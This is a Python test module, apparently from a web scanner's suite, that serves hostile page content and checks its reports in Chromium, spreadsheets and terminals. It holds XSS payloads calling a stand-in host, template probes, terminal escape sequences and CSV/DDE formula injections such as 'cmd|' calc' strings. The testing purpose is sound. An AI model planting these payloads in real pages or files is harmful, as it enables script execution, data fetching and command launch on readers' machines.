"""What a reader opens: pages in Chromium, terminals, spreadsheets; and that one asset's fault stays its own."""

from __future__ import annotations

import csv
import os
import re
import subprocess
from collections.abc import Iterator
from contextlib import suppress
from functools import partial
from pathlib import Path

import openpyxl
from playwright.sync_api import Dialog, Frame, Request, sync_playwright

from scanner.example_city import site as example
from tests.promises.capture import capturing
from tests.promises.endless import endless_context
from tests.promises.promise import Attack, Figure, none
from tests.promises.run import PROGRAM, Place, place
from tests.promises.sites import CAREFUL, CITY, LOST, ServedAnswer, city_text, html, linking, site
from tests.promises.wire import connections, questions
from tests.promises.world import World
from tests.real.programs import program

_MARK = "asing.example"
_SCRIPTS = (
    f"<script>fetch('https://{_MARK}/a')</script>", f"\"><img src=x onerror=\"fetch('https://{_MARK}/b')\">", f"<svg/onload=location='https://{_MARK}/c'>",
    f"</title></style></script></textarea><script src=https://{_MARK}/d></script>", f"<link rel=stylesheet href=https://{_MARK}/e>",
    f"<iframe src=https://{_MARK}/f></iframe>", f"javascript:fetch('https://{_MARK}/g')", f"<meta http-equiv=refresh content='0;url=https://{_MARK}/h'>",
    f"<base href=https://{_MARK}/>", "{{7*7}}${7*7}<%= 7*7 %>", f"<style>@import url(https://{_MARK}/i)</style>", f"<img src=https://{_MARK}/j>",
)  # fmt: skip
_STEERING = "\x1b]0;judul\x07\x1b[31mmerah\x1b[2J\x1b]8;;https://asing.example\x07\x9b2J\u202edibalik\u2066"
_FORMULAS = (
    '=HYPERLINK("https://asing.example","x")',
    "+cmd|' /C calc'!A0",
    "-1+1|cmd",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/c calc'!A1",
)
_SGR = re.compile(rb"\x1b\[[0-9;]*m")


def _hostile(texts: tuple[str, ...]) -> ServedAnswer:
    """A page that says these things wherever a site can say something of its own."""
    octets = "".join(f'<h2>{one}</h2><a href="/{n}?{one}">x</a>' for n, one in enumerate(texts))
    headers = (
        [("Server", f"nginx/1.0 {one}") for one in texts[:2]]
        + [("X-Powered-By", one) for one in texts]
        + [("Set-Cookie", f"a{n}={one}") for n, one in enumerate(texts)]
    )
    safe = tuple((name, value.replace("\r", " ").replace("\n", " ").encode().decode("latin-1")) for name, value in headers)
    return html(f"<!doctype html><title>{texts[0]}</title>{octets}", headers=(*CAREFUL[3:], *safe))


def _city(folder: Path) -> tuple[Place, World]:
    texts = {f"naskah.{CITY}": _SCRIPTS, f"kendali.{CITY}": (_STEERING,), f"rumus.{CITY}": _FORMULAS}

    async def respond(request: example.IncomingRequest) -> ServedAnswer:
        if request.path == "/robots.txt":
            return city_text("\n".join(f"Disallow: /backup/{one}" for one in texts[request.host]))
        return _hostile(texts[request.host]) if request.path == "/" else LOST

    hosts = [*texts, f"sehat.{CITY}", f"tanpa-akhir.{CITY}"]
    world = World(
        sites=dict.fromkeys(texts, respond) | dict.fromkeys(hosts[3:], site(content=linking(("/berita/1",)))),
        names={host: (f"103.30.0.{n}",) for n, host in enumerate(hosts, 1)}, contexts={hosts[4]: partial(endless_context, hosts[4])},
    )  # fmt: skip
    return Place(folder, world), world


def _terminal(tilik_place: Place) -> Iterator[Figure]:
    """Every page in Chromium, with everything counted that it asks for or runs."""
    wrong: list[str] = []

    def asking(request: Request) -> None:
        if not request.url.startswith(("file:", "data:")):
            wrong.append(f"asks for {request.url}")

    def speaking(dialog: Dialog) -> None:
        wrong.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def leaving(frame: Frame) -> None:
        if not frame.url.startswith(("file:", "about:")):
            wrong.append(f"goes to {frame.url}")

    pages = sorted((tilik_place.folder / "laporan").rglob("*.html"))
    with capturing(tilik_place.folder) as capture, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=program("chromium", "chromium"), args=["--no-sandbox", "--disable-gpu"])
        for path in pages:
            page = browser.new_page()
            page.on("request", asking)
            page.on("dialog", speaking)
            page.on("framenavigated", leaving)
            page.goto(path.as_uri())
            page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
            if "1337" in page.inner_text("body"):
                wrong.append(f"{path.name}: a template ran")
            page.close()
        browser.close()
    wrong += [f"DNS {name}" for _, name, _ in questions(capture.packets) if _MARK in name]
    wrong += [f"connection to {one.to[0]}" for one in connections(capture.packets) if one.to[0].startswith("103.66.")]
    yield none(
        "P50",
        f"{len(_SCRIPTS)} scripts in titles, links, headers and cookies, in Chromium",
        "nothing runs, nothing is asked for",
        wrong,
        len(pages),
    )


def _cells(tilik_place: Place) -> Iterator[Figure]:
    wrong = []
    for file in (tilik_place.folder / "laporan").rglob("*.csv"):
        raw = file.read_text("utf-8-sig")
        for separator in ",;\t":
            wrong += [
                cell[:30]
                for row in csv.reader(raw.splitlines(), delimiter=separator)
                for cell in row
                if cell.startswith(("=", "+", "@", "\t", "\r")) or re.match(r"-\D|-\d+[+|]", cell)
            ]
    for file in (tilik_place.folder / "laporan").rglob("*.xlsx"):
        for sheet in openpyxl.load_workbook(file):
            for row in sheet.iter_rows():
                wrong += [str(cell.value)[:30] for cell in row if cell.data_type == "f" and re.search(r"asing|cmd|1\+1", str(cell.value))]
                wrong += [str(cell.hyperlink.target) for cell in row if cell.hyperlink and _MARK in str(cell.hyperlink.target)]
    yield none(
        "P51",
        "formulas in titles, headers and robots.txt: CSV by three separators, workbooks",
        "no formula, no link",
        wrong,
        len(_FORMULAS),
    )


def _pages(tilik_place: Place) -> Iterator[Figure]:
    """What a pipe gets, and what a terminal of its own gets: colours are the program's, all else is not."""
    commands = (
        ["report", "--format", "text"],
        ["report", "--format", "json"],
        ["check", f"kendali.{CITY}"],
        ["check", f"kendali.{CITY}", "--format", "json"],
        ["check", f"kendali.{CITY}", "-vv"],
    )
    wrong = []
    for command in commands:
        run = tilik_place.start(*command)
        wrong += [f"{command[0]} in a pipe: {control!r}" for control in _controls(run.out + run.err)]
    wrong += [f"on a terminal: {control!r}" for control in _controls(_SGR.sub(b"", _on_terminal(tilik_place, "check", f"kendali.{CITY}")))]
    yield none("P52", "escapes, titles of windows, links and turned text", "no control character", wrong, len(commands) + 1)


def _controls(octets: bytes) -> list[str]:
    return re.findall(r"[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", octets.decode(errors="replace"))


def _on_terminal(tilik_place: Place, *arguments: str) -> bytes:
    """What a command prints when standard output is a terminal; its progress on standard error is left out."""
    ours, theirs = os.openpty()
    process = subprocess.Popen(
        [PROGRAM, *arguments], cwd=tilik_place.folder, stdin=subprocess.DEVNULL, stdout=theirs, stderr=subprocess.DEVNULL
    )
    os.close(theirs)
    octets = b""
    with suppress(OSError):
        while more := os.read(ours, 65_536):
            octets += more
    process.wait()
    os.close(ours)
    return octets


def _read(folder: Path) -> Iterator[Figure]:
    tilik_place, world = _city(folder)
    with world.serving(folder) as root:
        list_text = "".join(f"[Dinas {host.partition('.')[0]}]\n{host}\n" for host in world.names)
        place(folder, world, root, list_text, "rate = 40.0\nconnections = 8\n")
        tilik_place.start("scan", "--quiet").whole()
        report = tilik_place.start("report", "--format", "html,csv,xlsx,json,sarif,defectdojo")
        yield Figure(
            "P53",
            "a certificate that ends 9999-12-31: the report of the city",
            "exit code 0",
            f"{report.code} {report.err.decode()[-80:]}",
            report.code == 0,
        )
        missing = [host for host in world.names if not (folder / "laporan" / f"dinas-{host.partition('.')[0]}" / "index.html").exists()]
        yield none("P53", "a certificate that ends 9999-12-31: every page is written", "all", missing, len(world.names))
        yield from _terminal(tilik_place)
        yield from _cells(tilik_place)
        yield from _pages(tilik_place)


ATTACKS = (Attack("readers", _read),)
